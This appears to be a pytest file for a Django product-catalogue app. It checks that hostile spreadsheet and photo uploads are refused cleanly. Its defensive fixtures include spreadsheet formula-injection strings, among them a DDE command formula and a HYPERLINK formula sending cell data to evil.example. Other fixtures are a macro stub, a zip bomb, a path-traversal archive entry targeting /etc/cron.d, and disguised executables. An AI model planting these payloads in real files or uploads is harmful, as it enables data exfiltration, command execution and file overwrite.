"""Files made to harm, through every way in: one clear sentence each, nobody else disturbed.

The way of the command line, of the background check, and of photos. While each is looked at and
after it, another maker's file is read as if nothing was.
"""

import io
import json
import resource
import struct
import threading
import time
import zipfile
import zlib
from datetime import date
from pathlib import Path

import pytest
import xlsxwriter
from django.core.files.base import File
from django.core.management import call_command

from factories import people
from factories.hostile import HOSTILE
from factories.photos import JAN, Shot, as_bytes, take
from factories.workbooks import book_parts, write_zip
from kitamae.catalogue.models import Product, Sheet
from kitamae.catalogue.photos import examine
from kitamae.catalogue.sheets import actions
from kitamae.catalogue.sheets.checking import Tally, check_file, open_file
from kitamae.catalogue.sheets.comparing import problem_of
from kitamae.kernel.models import Job
from kitamae.kernel.tasks import finish

# only against hanging: a busy machine may take its time
PATIENCE = 90
GROWTH = 150  # megabytes that looking at any of them may add to this process


def write_good(path):
    with xlsxwriter.Workbook(path, {"in_memory": True}) as book:
        sheet = book.add_worksheet("商品")
        sheet.write_row(0, 0, ["JANコード", "商品名", "内容量", "賞味期間"])
        sheet.write_row(1, 0, ["4901234567894", "雪塩ちんすこう", "120g", "90日"])
    return path


def read_good(path):
    tally = Tally()
    opened = open_file(path)
    for _part, rows in check_file(opened, tally, on=opened_on):
        assert rows[0].answers["name_ja"] == "雪塩ちんすこう"
    return (tally.rows, tally.bad)


opened_on = date(2026, 6, 8)


@pytest.fixture
def others(tmp_path):
    """Another maker's good file, read again and again while a test goes on, and once after it."""
    path, over, read, wrong = write_good(tmp_path / "good.xlsx"), threading.Event(), [], []

    def go_on():
        while not over.is_set():
            try:
                read.append(read_good(path))
            except Exception as error:  # noqa: BLE001 -- whatever it is, the test must say it
                wrong.append(error)
                return

    thread = threading.Thread(target=go_on)
    thread.start()
    yield path
    over.set()
    thread.join()
    assert wrong == []
    assert set(read) == {(1, 0)}
    assert read_good(path) == (1, 0)


def high_water():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def checked_by_hand(path, language, *more):
    """Exit code and what is said by `kitamae sheet check`."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("sheet", "check", str(path), "--lang", language, *more, stdout=out, stderr=err)
    except SystemExit as ended:
        return ended.code, out.getvalue(), err.getvalue().strip()
    return 0, out.getvalue(), err.getvalue().strip()


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_gets_one_sentence_at_the_command_line(tmp_path, others, kind):
    path = tmp_path / "products.xlsx"
    HOSTILE[kind].make(path)
    before, started = high_water(), time.monotonic()

    told = {language: checked_by_hand(path, language) for language in ("ja", "en")}

    assert told == {"ja": (2, "", HOSTILE[kind].ja), "en": (2, "", HOSTILE[kind].en)}
    assert time.monotonic() - started < PATIENCE
    assert high_water() - before < GROWTH


def received(maker, path, at):
    with path.open("rb") as file:
        return actions.receive_sheet(
            supplier=maker.organisation, file=File(file), file_name=path.name, by=maker, at=at
        )


def worked(sheet):
    for job in Job.objects.filter(event__subject_code=sheet.code, state="waiting"):
        assert finish(job).state == "done"
    return Sheet.objects.get(pk=sheet.pk)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", [kind for kind in HOSTILE if kind != "600 MB of strings"])
def test_a_hostile_file_is_refused_in_the_background_and_the_next_one_is_checked(
    supplier, tmp_path, at, kind
):
    path, good = tmp_path / "products.xlsx", write_good(tmp_path / "good.xlsx")
    HOSTILE[kind].make(path)
    other = people.supplier_user()
    sheets = [received(supplier, path, at), received(other, good, at)]

    refused, checked = (worked(sheet) for sheet in sheets)

    problem = problem_of(refused.unreadable)
    assert refused.state == "unreadable"
    assert (problem.message("ja"), problem.message("en")) == (HOSTILE[kind].ja, HOSTILE[kind].en)
    assert refused.rows.count() == 0
    assert (checked.state, checked.counts["new"]) == ("checked", 1)
    assert Product.objects.count() == 0


def test_macros_are_never_run_and_the_rows_are_read(tmp_path, others):
    parts = book_parts(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>商品名</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>緑茶</t></is></c></row>'
    )
    path = write_zip(tmp_path / "macros.xlsm", parts | {"xl/vbaProject.bin": b"Sub Auto_Open()"})

    book = open_file(path).workbook

    assert book.kind == "xlsm"
    assert [note.code for note in book.notes] == ["book.macros"]
    assert [(note.message("ja"), note.message("en")) for note in book.notes] == [
        (
            "マクロが入っています。マクロは動かさず、セルの値だけを読みました。",
            "The file contains macros. They were not run; only the values of the cells were read.",
        )
    ]


FORMULAS = ("=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "@SUM(1)")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_cell_is_text_and_comes_back_as_text(tmp_path, others, formula):
    path, marked = tmp_path / "formula.xlsx", tmp_path / "marked.xlsx"
    with xlsxwriter.Workbook(
        path, {"strings_to_formulas": False, "strings_to_urls": False}
    ) as book:
        sheet = book.add_worksheet("商品")
        sheet.write_row(0, 0, ["JANコード", "商品名", "内容量"])
        sheet.write_row(1, 0, ["4901234567894", formula, "多め"])

    code, out, _err = checked_by_hand(path, "ja", "--json", "--annotate", str(marked))

    found = json.loads(out)
    assert (code, found["rows"]) == (1, 1)
    [row] = [
        row for _part, rows in check_file(open_file(path), Tally(), on=opened_on) for row in rows
    ]
    assert row.answers["name_ja"] == formula
    with zipfile.ZipFile(marked) as archive:
        written = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in written
    assert b"evil.example" not in b"".join(
        content.split(b"Target=")[1][:80] for content in [written] if b"Target=" in content
    )


def test_a_formula_with_a_stored_value_gives_the_value_alone(tmp_path, others):
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>商品名</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>内容量</t></is></c></row>'
        '<row r="2"><c r="A2" t="str"><f>cmd|\'/C calc\'!A0</f><v>緑茶</v></c></row>'
    )
    path = write_zip(tmp_path / "formula.xlsx", book_parts(rows))

    [row] = [
        row for _part, rows in check_file(open_file(path), Tally(), on=opened_on) for row in rows
    ]

    assert row.answers == {"name_ja": "緑茶"}


# photos


def _png(width, height, body):
    def chunk(kind, content):
        crc = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", crc)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _archive(path, files):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return path


def _two_kinds():
    both = io.BytesIO(as_bytes(take(Shot())))
    both.seek(0, 2)
    with zipfile.ZipFile(both, "a") as archive:
        archive.writestr("run.exe", b"MZ")
    return both.getvalue()


PHOTOS = {
    "a picture of 3.6 thousand megapixels": (
        lambda path: path.write_bytes(_png(60_000, 60_000, zlib.compress(bytes(1_000_000)))),
        "photo.too_many_pixels",
    ),
    "a picture that says more than it holds": (
        lambda path: path.write_bytes(_png(4000, 3000, zlib.compress(bytes(5000)))),
        "photo.broken",
    ),
    "a picture that is an archive too": (
        lambda path: path.write_bytes(_two_kinds()),
        "photo.two_kinds",
    ),
    "a program under a picture's name": (
        lambda path: path.write_bytes(b"\x7fELF" + bytes(4000)),
        "photo.not_a_photo",
    ),
}
ZIPS = {
    "a zip bomb": (
        lambda path: _archive(path, [(f"{n}.jpg", bytes(60_000_000)) for n in range(2)]),
        "photo.zip.bomb",
    ),
    "ten thousand files": (
        lambda path: _archive(path, [(f"{n}.jpg", b"") for n in range(10_000)]),
        "photo.zip.too_many",
    ),
    "a name that leads out": (
        lambda path: _archive(path, [("../../etc/cron.d/photo.jpg", b"x")]),
        "photo.zip.unsafe_name",
    ),
    "a zip inside a zip": (
        lambda path: _archive(path, [("more.zip", b"PK\x03\x04" + bytes(100))]),
        "photo.zip.inside",
    ),
}


def refused_photo(report, code, before):
    rows = [row for row in report.as_json() if code in row["codes"]]
    assert rows, report.as_json()
    [row] = rows
    assert (row["status"], row["codes"]) == ("refused", [code])
    for language in ("ja", "en"):
        [sentence] = row[f"messages_{language}"]
        assert sentence.endswith("。" if language == "ja" else ".")
        assert "{" not in sentence
    assert time.monotonic() - before < PATIENCE


@pytest.mark.parametrize("kind", PHOTOS)
def test_a_hostile_photo_is_refused_and_the_one_beside_it_is_fine(tmp_path, kind):
    make, code = PHOTOS[kind]
    folder = tmp_path / "photos"
    folder.mkdir()
    make(folder / f"{JAN}-1.png")
    (folder / f"{JAN}-2.jpg").write_bytes(as_bytes(take(Shot(barcode=JAN))))
    before = time.monotonic()

    report = examine(folder)

    refused_photo(report, code, before)
    good = {row["file"]: row["status"] for row in report.as_json()}
    assert good[f"{JAN}-2.jpg"] == "ok"


@pytest.mark.parametrize("kind", ZIPS)
def test_a_hostile_zip_of_photos_is_refused_and_the_photo_beside_it_is_fine(tmp_path, kind):
    make, code = ZIPS[kind]
    path = make(tmp_path / "photos.zip")
    fine = tmp_path / f"{JAN}-2.jpg"
    fine.write_bytes(as_bytes(take(Shot(barcode=JAN))))
    before = time.monotonic()

    report = examine([fine, path])

    refused_photo(report, code, before)
    assert {row["file"]: row["status"] for row in report.as_json()}[fine.name] == "ok"
    assert sorted(one.name for one in Path(tmp_path).iterdir()) == [fine.name, "photos.zip"]
